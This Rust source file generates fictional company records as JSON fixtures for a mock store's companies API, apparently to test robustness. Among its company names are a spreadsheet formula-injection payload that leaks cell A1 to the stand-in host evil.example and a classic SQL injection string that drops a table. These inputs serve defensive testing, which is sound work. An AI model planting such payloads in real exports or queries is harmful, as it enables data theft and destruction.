//! Companies, as lists and as single answers.

use serde_json::{json, Map, Value};

use super::random::Random;
use super::wire::{envelope, id, lines, page};
use super::{File, DAY, TODAY};

/// A company of the sample store.
pub struct Company {
    pub id: i64,
    pub name: &'static str,
    pub domain: String,
    pub country: &'static str,
    pub country_name: &'static str,
    pub city: &'static str,
    pub currency: &'static str,
    pub industry: &'static str,
    pub status: i64,
    pub group: i64,
    pub created: i64,
    pub updated: i64,
}

/// Name, domain, country, city, currency, industry.
type Row = (&'static str, &'static str, usize, &'static str, &'static str);

const COUNTRIES: &[(&str, &str, &str)] = &[
    ("US", "United States", "USD"),
    ("CA", "Canada", "CAD"),
    ("GB", "United Kingdom", "GBP"),
    ("DE", "Germany", "EUR"),
    ("FR", "France", "EUR"),
    ("PL", "Poland", "EUR"),
    ("JP", "Japan", "JPY"),
    ("AU", "Australia", "AUD"),
];

const NAMES: &[Row] = &[
    ("Great Buys Incorporated", "greatbuys", 0, "Austin", "Retail"),
    ("Bright Smile Dental Group", "brightsmile", 0, "Portland", "Dental"),
    ("Zahnärzte am Münsterplatz", "zahn-muenster", 3, "Freiburg", "Dental"),
    ("Clinique Dentaire Étoile", "etoile-dentaire", 4, "Lyon", "Dental"),
    ("Müller & Söhne Maschinenbau GmbH", "mueller-maschinen", 3, "Stuttgart", "Manufacturing"),
    ("Kowalski Łożyska Sp. z o.o.", "kowalski-lozyska", 5, "Łódź", "Manufacturing"),
    ("株式会社 山田製作所", "yamada-mfg", 6, "大阪", "Manufacturing"),
    ("Northern Hydraulics Ltd", "northern-hydraulics", 2, "Sheffield", "Manufacturing"),
    ("O'Brien & Daughters Construction", "obrien-build", 0, "Boston", "Construction"),
    ("=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click me\")", "hyperlink-test", 0, "Reno", "Retail"),
    ("Maple Leaf Office Supply", "mapleleaf-office", 1, "Toronto", "Office"),
    ("Bureau Québec Fournitures", "bureau-quebec", 1, "Québec", "Office"),
    ("Sydney Harbour Catering Pty Ltd", "harbour-catering", 7, "Sydney", "Hospitality"),
    ("Café Zürcher <Rösterei> & Bar", "cafe-zuercher", 3, "Konstanz", "Hospitality"),
    ("Trattoria Da Noi", "trattoria-danoi", 4, "Nice", "Hospitality"),
    ("Greenfield Garden Centres", "greenfield-garden", 2, "Bristol", "Horticulture"),
    ("Baumschule Grünwald", "gruenwald", 3, "Bremen", "Horticulture"),
    ("Lone Star Data Centers", "lonestar-dc", 0, "Dallas", "IT"),
    ("Nordlicht IT-Systemhaus AG", "nordlicht-it", 3, "Kiel", "IT"),
    ("さくらネットワーク合同会社", "sakura-net", 6, "東京", "IT"),
    ("Prairie Steel Works", "prairie-steel", 1, "Winnipeg", "Manufacturing"),
    ("Atlas Bolt & Nut Co.", "atlas-bolt", 0, "Cleveland", "Manufacturing"),
    ("Hôtel du Lac", "hotel-du-lac", 4, "Annecy", "Hospitality"),
    ("St. Mary's Hospital Trust", "stmarys-trust", 2, "Leeds", "Healthcare"),
    ("Klinikum Nord gGmbH", "klinikum-nord", 3, "Hamburg", "Healthcare"),
    ("Riverside Veterinary Partners", "riverside-vet", 0, "Sacramento", "Healthcare"),
    ("Schreinerei Bäcker", "schreinerei-baecker", 3, "Kassel", "Construction"),
    ("Bâtiments Durand SARL", "durand-bat", 4, "Nantes", "Construction"),
    ("Outback Scaffolding", "outback-scaffold", 7, "Perth", "Construction"),
    ("Gdańsk Stocznia Remontowa", "gdansk-stocznia", 5, "Gdańsk", "Manufacturing"),
    ("Pixel & Pine Studio", "pixelpine", 0, "Asheville", "IT"),
    ("Second Street Coffee Roasters", "secondstreet", 0, "Chicago", "Hospitality"),
    ("The Paper Trail", "papertrail", 2, "York", "Office"),
    ("Kanzlei Dr. Weiß & Partner", "kanzlei-weiss", 3, "Bonn", "Office"),
    ("École Primaire Jean Moulin", "ecole-moulin", 4, "Dijon", "Education"),
    ("Lakeshore School District", "lakeshore-sd", 0, "Milwaukee", "Education"),
    ("Warsaw Technical Institute", "warsaw-tech", 5, "Warszawa", "Education"),
    ("Blue Mountain Resorts", "bluemountain", 1, "Collingwood", "Hospitality"),
    ("Ōtsuka Dental Supply", "otsuka-dental", 6, "名古屋", "Dental"),
    ("Ferrous & Sons", "ferrous", 2, "Glasgow", "Manufacturing"),
    ("Desert Sun Solar", "desertsun", 0, "Phoenix", "Construction"),
    ("Fjord Robotics", "fjord-robotics", 3, "Flensburg", "Manufacturing"),
    ("Melbourne Makers Collective", "melbmakers", 7, "Melbourne", "Education"),
    ("Tiny Teeth Pediatric Dentistry", "tinyteeth", 0, "Denver", "Dental"),
    ("Grand Rapids Furniture Outlet", "gr-furniture", 0, "Grand Rapids", "Retail"),
    ("Papeterie Lefèvre", "lefevre", 4, "Lille", "Office"),
    ("Spółdzielnia Ogrodnicza Wisła", "wisla-ogrod", 5, "Toruń", "Horticulture"),
    ("Harvest Moon Farms LLC", "harvestmoon", 0, "Fresno", "Horticulture"),
    ("Bayview Community College", "bayview-cc", 1, "Vancouver", "Education"),
    ("Werkzeug-Welt 24", "werkzeugwelt", 3, "Essen", "Retail"),
    ("Castle & Moat Security", "castlemoat", 2, "Cardiff", "IT"),
    ("Yukon Outfitters", "yukon-outfit", 1, "Whitehorse", "Retail"),
    ("Maison Verte 🌿", "maison-verte", 4, "Bordeaux", "Horticulture"),
    ("Null & Void Consulting", "nullvoid", 0, "Seattle", "IT"),
    ("Robert'); DROP TABLE Students;--", "bobbytables", 0, "Springfield", "Education"),
    ("Apex Orthodontics", "apex-ortho", 7, "Brisbane", "Dental"),
    ("Königlich Bayerische Gastro", "kb-gastro", 3, "München", "Hospitality"),
    ("Highland Distillers' Supply", "highland-supply", 2, "Inverness", "Manufacturing"),
    ("Two-Day-Old Company", "twodays", 0, "Boise", "Retail"),
    ("Pending Approval Partners", "pending-partners", 0, "Tucson", "Office"),
];

/// All companies, with what they trade in.
pub fn invent() -> Vec<Company> {
    let mut random = Random::new("companies");
    let newest = NAMES.len() - 2;
    let invent = |(n, (name, domain, country, city, industry)): (usize, &Row)| {
        let (country, country_name, currency) = COUNTRIES[*country];
        let created = if n < newest { TODAY - random.between(90, 900) * DAY } else { TODAY - 2 * DAY };
        let updated =
            created + random.between(0, (TODAY - created) / DAY) * DAY / 2 + random.between(60, 40_000);
        let status = if n < newest { *random.weighted(&[(5, 0), (82, 1), (5, 2), (8, 3)]) } else { 0 };
        let group = *random.pick(&[0, 3, 3, 4, 4, 5]);
        let domain = format!("{domain}.example");
        Company {
            id: 1001 + n as i64,
            name,
            domain,
            country,
            country_name,
            city,
            currency,
            industry,
            status,
            group,
            created,
            updated,
        }
    };
    NAMES.iter().enumerate().map(invent).collect()
}

fn group_name(group: i64) -> &'static str {
    match group {
        3 => "Tier 1 B2B Clients",
        4 => "Tier 2 B2B Clients",
        5 => "Distributors",
        _ => "",
    }
}

fn payload(random: &mut Random, company: &Company, list: bool) -> Value {
    let mut fields = Map::new();
    let mut set = |key: &str, value: Value| fields.insert(key.to_owned(), value);
    set("companyId", id(random, company.id));
    set("companyName", company.name.into());
    set("companyEmail", format!("office@{}", company.domain).into());
    if !random.percent(15) {
        set("companyPhone", json!(format!("+1-555-01{:02}", company.id % 100)));
    }
    set("companyStatus", company.status.to_string().into());
    set("bcGroupId", if list { company.group.into() } else { company.group.to_string().into() });
    set("bcGroupName", group_name(company.group).into());
    set("catalogId", if company.group == 5 { json!("12") } else { json!("") });
    set("catalogName", if company.group == 5 { json!("Distributor prices") } else { json!(null) });
    if company.name == "Tiny Teeth Pediatric Dentistry" {
        set("parentCompany", json!({"id": 1002, "name": "Bright Smile Dental Group"}));
    } else if random.percent(50) {
        set("parentCompany", json!({}));
    }
    set("priceListAssign", json!([]));
    if random.percent(30) {
        set("uuid", format!("erp-{}", 70_000 + company.id).into());
    } else {
        set("uuid", json!(null));
    }
    if !random.percent(20) {
        let employees = random.between(3, 4000);
        set(
            "extraFields",
            json!([
                {"fieldName": "Industry", "fieldValue": company.industry},
                {"fieldName": "Employees", "fieldValue": employees.to_string()},
                {"fieldName": "Preferred language", "fieldValue": if company.country == "DE" { "de" } else { "en" }},
            ]),
        );
    }
    set("createdAt", company.created.to_string().into());
    set(
        "updatedAt",
        if random.percent(90) { company.updated.to_string().into() } else { company.updated.into() },
    );
    Value::Object(fields)
}

/// Two pages of GET /companies, and one answer of GET /companies/{companyId}.
pub fn files(companies: &[Company]) -> Vec<File> {
    let mut random = Random::new("company payloads");
    let listed = &companies[..companies.len() - 1];
    let items: Vec<Value> = listed.iter().map(|company| payload(&mut random, company, true)).collect();
    let mut files: Vec<File> = items
        .chunks(50)
        .enumerate()
        .map(|(n, chunk)| {
            let text = lines(&page(chunk.to_vec(), items.len(), n * 50, 50));
            (format!("companies/page-{:04}.json", n + 1), text)
        })
        .collect();
    for company in &companies[companies.len() - 1..] {
        let text = lines(&envelope(payload(&mut random, company, false)));
        files.push((format!("companies/{}.json", company.id), text));
    }
    files
}
